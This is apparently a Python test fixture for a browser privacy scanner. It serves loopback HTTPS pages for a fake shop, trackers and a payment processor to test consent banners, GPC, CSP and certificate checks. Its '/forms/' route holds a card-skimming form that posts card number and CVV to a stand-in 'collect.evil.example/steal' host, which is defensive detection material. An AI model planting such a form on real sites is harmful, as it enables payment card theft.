"""An HTTPS site on loopback for the browser collector: shops, trackers and a payment processor.

One threaded Python ``ssl`` server answers every host name (the shop, tracker hosts, a processor);
Chromium reaches them through ``--host-resolver-rules`` pins to 127.0.0.1, so no test touches the
real network. The certificate is issued by a throwaway CA for all names. ``state`` changes what
the payment page serves between two scans.
"""

from __future__ import annotations

import ssl
import tempfile
import threading
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

from posture.demo.certs import Issued, issue, make_ca

SHOP = "shop.example"
GA = "www.google-analytics.com"
FB = "connect.facebook.net"
PROCESSOR = "js.processor.example"
EVIL = "collect.evil.example"
HOSTS = (SHOP, GA, FB, PROCESSOR, EVIL)


def _page(body: str, head: str = "") -> bytes:
    return f"<!doctype html><html><head><title>shop</title>{head}</head><body>{body}</body></html>".encode()


def _inject(url: str, after_load: bool = True) -> str:
    code = f"var s=document.createElement('script');s.src='{url}';document.head.appendChild(s);"
    if after_load:
        return f"<script>window.addEventListener('load',function(){{setTimeout(function(){{{code}}},50)}});</script>"
    return f"<script>{code}</script>"


@dataclass
class Site:
    port: int
    ca_path: Path
    server: ThreadingHTTPServer
    ca: Issued | None = None
    state: dict[str, Any] = field(default_factory=dict)
    release: threading.Event = field(default_factory=threading.Event)

    def url(self, path: str, host: str = SHOP) -> str:
        return f"https://{host}:{self.port}{path}"

    @property
    def resolve(self) -> dict[tuple[str, int], str]:
        return {(h, self.port): "127.0.0.1" for h in HOSTS}

    def close(self) -> None:
        self.release.set()
        self.server.shutdown()
        self.server.server_close()


def _routes(site: Site, host: str, path: str) -> tuple[int, dict[str, str], bytes] | None:
    ga = site.url("/collect.js", GA)
    fb = site.url("/fbevents.js", FB)
    html = {"Content-Type": "text/html; charset=utf-8"}
    js = {"Content-Type": "application/javascript"}
    if host == GA and path.startswith("/collect.js"):
        return 200, js, b"document.cookie='_ga=GA1.1.1; max-age=3600; path=/';"
    if host == FB and path.startswith("/fbevents.js"):
        return 200, js, b"window.fbq = function(){};"
    if host == PROCESSOR and path.startswith("/frame"):
        body = _page("<form action='/charge' method='post'><input name='cardnumber'></form>")
        return 200, html, body
    if host == PROCESSOR and path.startswith("/v3.js"):
        return 200, js, b"window.Processor = {};"
    if host != SHOP:
        return None
    if path == "/tm/":  # a tag manager that injects the tracker after load
        return 200, html, _page("<h1>Shop</h1>", "<script src='/tm/gtm.js'></script>")
    if path == "/tm/gtm.js":
        return (
            200,
            js,
            (
                "localStorage.setItem('_ga_ls', 'session-id-value');"
                "window.addEventListener('load', function () { setTimeout(function () {"
                f"var s=document.createElement('script');s.src='{ga}';document.head.appendChild(s);"
                "}, 50); });"
            ).encode(),
        )
    if path == "/consent-good/":  # trackers only after a click on the banner
        banner = (
            "<div id='banner'>We use cookies <button id='ok' onclick=\""
            f"var s=document.createElement('script');s.src='{ga}';document.head.appendChild(s);"
            '">Accept</button></div>'
        )
        return 200, html, _page(banner)
    if path == "/consent-bad/":  # the banner shows, but the tracker already loaded
        return (
            200,
            html,
            _page(
                "<div id='banner'>We use cookies <button>Accept</button></div>" + _inject(ga, False)
            ),
        )
    if path == "/gpc-good/":
        code = (
            "<script>if (!navigator.globalPrivacyControl) {"
            f"var s=document.createElement('script');s.src='{fb}';document.head.appendChild(s);"
            "}</script>"
        )
        return 200, html, _page("<h1>Honours GPC</h1>" + code)
    if path == "/gpc-bad/":
        return 200, html, _page("<h1>Ignores GPC</h1>" + _inject(fb, False))
    if path == "/pay/":
        return 200, html, _page("<a href='/pay/checkout'>checkout</a>")
    if path == "/pay/checkout":
        version = site.state.get("checkout_version", 1)
        headers = {**html, "Content-Security-Policy": site.state.get("csp", "default-src 'self'")}
        headers["Content-Security-Policy"] += f" {site.url('', PROCESSOR)}"
        body = _page(
            f"<iframe src='{site.url('/frame', PROCESSOR)}'></iframe>"
            + (
                f"<script src='{site.url('/v3.js', PROCESSOR)}'></script>"
                if site.state.get("processor_js")
                else ""
            ),
            f"<script src='/pay/checkout.js?v={version}'></script>",
        )
        return 200, headers, body
    if path.startswith("/pay/checkout.js"):
        return (
            200,
            js,
            f"window.checkoutVersion = {site.state.get('checkout_version', 1)};".encode(),
        )
    if path == "/forms/":
        form = (
            f"<form action='{site.url('/steal', EVIL)}' method='post'><input name='cardnumber'>"
            "<input name='cvv'></form><form action='/login' method='post'><input type='password' name='p'></form>"
        )
        return 200, html, _page(form)
    return None


def start_site() -> Site:
    """Start the site on a free loopback port; close() stops it."""
    folder = Path(tempfile.mkdtemp(prefix="posture-browser-site-"))
    ca = make_ca("posture browser test CA")
    ca_path = folder / "ca.pem"
    ca_path.write_bytes(ca.cert_pem())
    leaf = issue(ca, list(HOSTS))
    cert, key = leaf.write(folder, "site", (ca,))
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(cert, key)
    holder: dict[str, Site] = {}

    class Handler(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def log_message(self, *args: Any) -> None:
            pass

        def do_GET(self) -> None:  # noqa: N802 - the standard library's name
            site = holder["site"]
            host = (self.headers.get("Host") or "").split(":")[0]
            path = self.path
            if host == SHOP and path.split("?")[0] == "/slow/":  # a page that never stops loading
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.send_header("Content-Length", "100000")
                self.end_headers()
                self.wfile.write(b"<!doctype html><html><body><p>loading")
                self.wfile.flush()
                site.release.wait(60)
                return
            answer = _routes(
                site, host, path.split("?")[0] if not path.startswith("/pay/checkout.js") else path
            )
            if answer is None:
                status, headers, body = 404, {"Content-Type": "text/plain"}, b"not found"
            else:
                status, headers, body = answer
            self.send_response(status)
            for name, value in headers.items():
                self.send_header(name, value)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

    server = _serve_https(context, Handler)
    site = Site(int(server.server_address[1]), ca_path, server, ca=ca)
    holder["site"] = site
    return site


def _serve_https(
    context: ssl.SSLContext, handler: type[BaseHTTPRequestHandler]
) -> ThreadingHTTPServer:
    """A threaded HTTPS server on a free loopback port, serving in the background. The handshake
    happens in the connection's thread, so a slow client holds no other."""
    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    server.daemon_threads = True
    server.socket = context.wrap_socket(
        server.socket, server_side=True, do_handshake_on_connect=False
    )
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server


def start_cert_server(
    site: Site, names: list[str], *, expired: bool = False
) -> ThreadingHTTPServer:
    """A one-page HTTPS server whose certificate is for ``names`` (expired if asked), issued by
    the site's CA; its page loads the site's tracker. ``server_address[1]`` is its port."""
    import datetime as dt

    assert site.ca is not None
    folder = Path(tempfile.mkdtemp(prefix="posture-browser-cert-"))
    now = dt.datetime.now(dt.UTC)
    leaf = issue(
        site.ca,
        names,
        not_before=now - dt.timedelta(days=30) if expired else None,
        not_after=now - dt.timedelta(days=1) if expired else None,
    )
    cert, key = leaf.write(folder, "leaf", (site.ca,))
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(cert, key)
    body = _page("<h1>Expired</h1>" + _inject(site.url("/collect.js", GA), False))

    class Handler(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def log_message(self, *args: Any) -> None:
            pass

        def do_GET(self) -> None:  # noqa: N802 - the standard library's name
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

    return _serve_https(context, Handler)
